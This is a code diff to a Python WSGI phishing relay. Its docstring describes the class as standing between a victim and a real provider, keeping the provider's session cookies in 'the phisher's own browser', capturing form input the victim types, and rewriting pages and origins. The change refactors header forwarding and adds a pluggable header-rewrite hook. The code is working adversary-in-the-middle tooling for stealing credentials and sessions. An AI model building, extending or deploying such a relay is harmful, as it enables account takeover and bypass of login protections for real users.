@@ -8,16 +8,17 @@ from wsgiref.types import StartResponse, WSGIEnvironment
 import httpx
 from werkzeug.wrappers import Request, Response
 
-NOT_PASSED_ON = {
-    "host",
-    "cookie",
+# Of one connection alone (RFC 9110, 7.6.1), or computed anew for the next one.
+OF_ONE_CONNECTION = {
     "content-length",
     "connection",
     "accept-encoding",
     "transfer-encoding",
     "content-encoding",
-    "set-cookie",
 }
+NOT_PASSED_ON = {"host", "cookie", "set-cookie"}
+Headers = list[tuple[str, str]]
+RewriteHeaders = Callable[[Headers, str, str], Headers]
 
 
 class Relay:
@@ -26,13 +27,21 @@ class Relay:
 
     `network` is the phisher's own browser: cookies that the provider sets stay in it, so in the end
     the session is there and nowhere else. `typed` is what the victim sent in forms. `rewrite` may
-    change a page before the victim sees it. One victim at a time.
+    change a page before the victim sees it. `rewrite_headers` gets the headers of a request or of
+    an answer, the origin that stands in them, and the one to put in its place; it returns what is
+    handed on. One victim at a time.
     """
 
     def __init__(
-        self, network: httpx.Client, real: str, fake: str, rewrite: Callable[[str], str] = str
+        self,
+        network: httpx.Client,
+        real: str,
+        fake: str,
+        rewrite: Callable[[str], str] = str,
+        rewrite_headers: RewriteHeaders | None = None,
     ):
         self.network, self.real, self.fake, self.rewrite = network, real, fake, rewrite
+        self.rewrite_headers = rewrite_headers or passed_on
         self.typed: dict[str, str] = {}
 
     def __call__(self, environ: WSGIEnvironment, start_response: StartResponse) -> Iterable[bytes]:
@@ -40,12 +49,14 @@ class Relay:
         body = request.get_data()
         self.typed |= request.form.to_dict()
         headers = httpx.Headers(
-            passed_on(request.headers, self.fake, self.real), encoding="latin-1"
+            self.rewrite_headers(end_to_end(request.headers), self.fake, self.real),
+            encoding="latin-1",
         )
         answer = self.network.request(
             request.method, self.real + target(environ), headers=headers, content=body
         )
-        returned = passed_on(answer.headers.multi_items(), self.real, self.fake)
+        came = end_to_end(answer.headers.multi_items())
+        returned = self.rewrite_headers(came, self.real, self.fake)
         return Response(self.shown(answer), answer.status_code, returned)(environ, start_response)
 
     def shown(self, answer: httpx.Response) -> bytes:
@@ -67,11 +78,16 @@ def target(environ: WSGIEnvironment) -> str:
     return f"{path}?{query}" if query else path
 
 
-def passed_on(headers: Iterable[tuple[str, str]], old: str, new: str) -> list[tuple[str, str]]:
+def end_to_end(headers: Iterable[tuple[str, str]]) -> Headers:
+    """The headers that are meant for the other end, and not for this connection alone."""
+    return [(name, value) for name, value in headers if name.lower() not in OF_ONE_CONNECTION]
+
+
+def passed_on(headers: Iterable[tuple[str, str]], old: str, new: str) -> Headers:
     """The headers that a relay hands on, with its own name in the place of the provider's or the
     other way round."""
     return [
         (name, value.replace(old, new))
-        for name, value in headers
+        for name, value in end_to_end(headers)
         if name.lower() not in NOT_PASSED_ON
     ]
